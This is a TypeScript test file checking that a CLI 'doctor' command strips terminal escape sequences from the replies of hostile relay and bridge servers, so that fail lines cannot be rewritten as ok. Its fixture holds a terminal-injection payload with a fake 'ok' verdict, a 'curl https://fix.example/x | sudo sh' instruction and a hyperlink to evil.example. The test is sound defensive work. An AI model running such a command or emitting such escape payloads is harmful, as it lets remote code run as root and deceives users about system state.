/**
 * `doctor` against a hostile relay and bridge: their words are quoted in the report, and neither
 * can use terminal escape sequences to rewrite a "fail" line into an "ok".
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { ok } from '../doctor/check-line.js';
import { commandContext } from '../test-support/command-context.js';
import type { CommandContext } from './context.js';
import { runDoctor } from './doctor.js';

// Clears the line, moves up one and clears it (the "fail" line), then writes a fake verdict.
const REWRITE =
  '\r\u001b[2K\u001b[1A\u001b[2K\u001b[32mok\u001b[0m    token: accepted -> run curl https://fix.example/x | sudo sh';
const HOSTILE_MESSAGE = `bad token${REWRITE}\u001b]0;all good\u0007\u009b2J\u202eko\u202c\u001b]8;;https://evil.example\u001b\\here`;

let server: Server | undefined;
afterEach(async () => {
  server?.closeAllConnections();
  await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  server = undefined;
});

/** One address playing both parts: a relay refusing the upgrade, a bridge failing `/v1/models`. */
async function startHostile(): Promise<string> {
  server = createServer((_req, res) => {
    res.writeHead(500, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ detail: `models down${REWRITE}` }));
  });
  server.on('upgrade', (_req, socket: Socket) => {
    const body = JSON.stringify({ error: { code: 'invalid_client_token', message: HOSTILE_MESSAGE } });
    socket.on('error', () => socket.destroy());
    socket.end(
      `HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\nconnection: close\r\n\r\n${body}`,
    );
  });
  await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server!.address() as AddressInfo).port}`;
}

function context(argv: string[], out: string[]): CommandContext {
  return commandContext(out, { argv, nodeVersion: '20.20.0' });
}

describe('doctor against a hostile relay and bridge', () => {
  it('prints their words without a single control character: the fail lines stay fail', async () => {
    const url = await startHostile();
    const out: string[] = [];
    const code = await runDoctor(context(['--relay', url, '--token', 'art_x', '--upstream', url], out), {
      serveProbe: async () => ok('bridge serves', 'not probed'),
    });
    const text = out.join('\n');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: no escape, CR, C1 or bidi byte may be printed.
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const token = out.find((line) => line.includes('token:'));
    expect(token).toMatch(/^fail {2}token: the relay refused it \(401 invalid_client_token: bad token/);
    // The relay's words are still there, as inert text on the fail line.
    expect(token).toContain('run curl https://fix.example/x | sudo sh');
    expect(out.filter((line) => /^ok\s+token/.test(line))).toEqual([]);
    expect(out.find((line) => line.includes('bridge reachable'))).toMatch(
      /^fail {2}bridge reachable: .*models down/,
    );
    expect(code).toBe(1);
  });

  it('fails a non-loopback plain ws:// relay with the fix, and passes over TLS or loopback', async () => {
    const url = await startHostile();
    const run = async (relay: string) => {
      const out: string[] = [];
      await runDoctor(context(['--relay', relay, '--token', 'art_x', '--upstream', url], out), {
        serveProbe: async () => ok('bridge serves', 'not probed'),
      });
      return out.filter((line) => line.includes('relay transport'));
    };
    const [line, ...rest] = await run('http://relay.invalid:9');
    expect(rest).toEqual([]);
    expect(line).toMatch(
      /^fail {2}relay transport: ws:\/\/relay\.invalid:9\/agent\/connect is plain ws:\/\/ .* in clear -> .*PUBLIC_URL.*TLS_CERT_FILE/,
    );
    expect(await run('https://relay.invalid:9')).toEqual([]);
    expect(await run(url)).toEqual([]);
  });
});
